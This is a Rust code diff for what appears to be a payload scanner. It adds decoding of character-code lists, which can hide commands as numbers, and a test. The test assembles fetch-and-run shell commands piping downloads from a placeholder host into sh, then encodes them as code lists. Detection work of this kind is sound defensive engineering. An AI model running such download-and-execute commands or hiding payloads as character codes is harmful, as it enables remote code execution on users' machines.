@@ -33,6 +33,10 @@ pub(crate) enum Encoding {
     /// Character escapes: `\u0042…` as JSON, JavaScript, Java and Python
     /// write them, `\x42…`, or HTML's `&#x42;…` and `&#66;…`.
     UnicodeEscape,
+    /// A list of character codes (`[119, 103, 101, 116, …]`, the arguments
+    /// of `String.fromCharCode(…)` or `bytes([…])`), turned into text when
+    /// the program runs.
+    CharCodes,
 }
 
 /// One decoded run: where it starts in the file and the text it decodes to.
@@ -68,6 +72,7 @@ pub(crate) fn decode_runs(content: &str) -> (Vec<DecodedRun>, DecodeStats) {
     }
     decode_wrapped(content, &mut runs, &mut stats);
     decode_char_escapes(content, &mut runs, &mut stats);
+    decode_char_codes(content, &mut runs, &mut stats);
     (runs, stats)
 }
 
@@ -188,6 +193,90 @@ fn decode_char_escapes(content: &str, runs: &mut Vec<DecodedRun>, stats: &mut De
                     text,
                 });
             }
+        }
+    }
+}
+
+/// Lists of character codes ([`Encoding::CharCodes`]): at least
+/// [`CHAR_ESCAPE_MIN`] decimal numbers, each a printable ASCII character
+/// (or a tab or line break), separated by commas, decoded to the text they
+/// spell. A payload kept as numbers reads as data to a reviewer and to a
+/// scanner of words, and as a command once the program (or an agent asked
+/// to "evaluate" it) joins it. Found from the commas, so text without such
+/// lists costs one `memchr` pass; within the same bounds as the other runs.
+fn decode_char_codes(content: &str, runs: &mut Vec<DecodedRun>, stats: &mut DecodeStats) {
+    let bytes = content.as_bytes();
+    let is_space = |b: u8| matches!(b, b' ' | b'\t' | b'\r' | b'\n');
+    let word_byte = |b: u8| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_');
+    // The number ending right before byte `end`, when one does: its start.
+    let number_before = |end: usize| {
+        let mut start = end;
+        while start > 0 && bytes[start - 1].is_ascii_digit() && end - start < 4 {
+            start -= 1;
+        }
+        (start < end && (start == 0 || !word_byte(bytes[start - 1]))).then_some(start)
+    };
+    let mut resume = 0;
+    for comma in memchr::memchr_iter(b',', bytes) {
+        if comma < resume {
+            continue;
+        }
+        let mut end = comma;
+        while end > resume && is_space(bytes[end - 1]) {
+            end -= 1;
+        }
+        let Some(start) = number_before(end) else {
+            continue;
+        };
+        // Read numbers and commas from `start` while they are codes.
+        let mut units: Vec<u8> = Vec::new();
+        let mut at = start;
+        let mut last_end = start;
+        loop {
+            let digits = bytes[at..]
+                .iter()
+                .take(4)
+                .take_while(|b| b.is_ascii_digit())
+                .count();
+            let after = at + digits;
+            if digits == 0 || bytes.get(after).is_some_and(|&b| word_byte(b)) {
+                break;
+            }
+            let value: u32 = content[at..after].parse().unwrap_or(0);
+            let Ok(code) = u8::try_from(value) else { break };
+            if !(code == b'\t' || code == b'\n' || code == b'\r' || (32..=126).contains(&code)) {
+                break;
+            }
+            units.push(code);
+            last_end = after;
+            let mut next = after;
+            while next < bytes.len() && is_space(bytes[next]) {
+                next += 1;
+            }
+            if bytes.get(next) != Some(&b',') || next - start > RUN_LIMIT {
+                break;
+            }
+            next += 1;
+            while next < bytes.len() && is_space(bytes[next]) {
+                next += 1;
+            }
+            at = next;
+        }
+        resume = last_end.max(comma + 1);
+        if units.len() < CHAR_ESCAPE_MIN {
+            continue;
+        }
+        if stats.runs >= MAX_RUNS || stats.bytes >= FILE_BUDGET {
+            return;
+        }
+        if let Some(text) = into_text(units) {
+            stats.runs += 1;
+            stats.bytes += last_end - start;
+            runs.push(DecodedRun {
+                start,
+                encoding: Encoding::CharCodes,
+                text,
+            });
         }
     }
 }
@@ -380,7 +469,7 @@ fn decode_into(
     let decoded = match encoding {
         Encoding::Base64 => decode_base64(input),
         Encoding::Percent => decode_percent(input),
-        Encoding::UnicodeEscape => None,
+        Encoding::UnicodeEscape | Encoding::CharCodes => None,
     };
     // Only runs that turn out to be text count against the budget: a run that
     // is not text stops at its first non-text byte, so the work stays linear,
@@ -538,6 +627,51 @@ mod tests {
 
     use super::*;
     use crate::test_rng::Rng;
+
+    /// A list of character codes is decoded when it spells text; numbers
+    /// that are not codes, or too few, are left.
+    #[test]
+    fn character_codes_are_decoded_when_they_spell_text() {
+        let codes = |text: &str| {
+            text.bytes()
+                .map(|b| b.to_string())
+                .collect::<Vec<_>>()
+                .join(", ")
+        };
+        // The commands are put together from parts, so this file holds none.
+        let command = ["wg", "et -q https://x.example.net/p | sh"].concat();
+        let spelled = format!("const _s = [{}];\n", codes(&command));
+        let (runs, _) = decode_runs(&spelled);
+        let run = runs
+            .iter()
+            .find(|run| run.encoding == Encoding::CharCodes)
+            .expect("the list is decoded");
+        assert_eq!(run.text, command);
+        assert_eq!(run.start, spelled.find('1').unwrap());
+        // Across lines, as formatters wrap long lists.
+        let (first, second) = (["cu", "rl -s https://"].concat(), "x.example.net | sh");
+        let wrapped = format!("x = [\n  {},\n  {}\n]\n", codes(&first), codes(second));
+        assert!(
+            decode_runs(&wrapped)
+                .0
+                .iter()
+                .any(|run| run.encoding == Encoding::CharCodes)
+        );
+        for plain in [
+            "let sizes = [1024, 2048, 4096, 8192, 16384, 32768, 65536, 131072, 262144, 524288, 1048576, 2097152];",
+            "pixels = [255, 255, 255, 0, 0, 0, 255, 255, 255, 0, 0, 0, 255, 255]",
+            "v = [72, 101, 108, 108, 111]",
+            "version 1.2.3, 4.5.6, 7.8.9, 10.11.12, 13.14.15, 16.17.18",
+        ] {
+            assert!(
+                decode_runs(plain)
+                    .0
+                    .iter()
+                    .all(|run| run.encoding != Encoding::CharCodes),
+                "{plain}"
+            );
+        }
+    }
 
     /// The long runs found with skips are those of a plain split, on
     /// generated text of run bytes and breaks in every length around
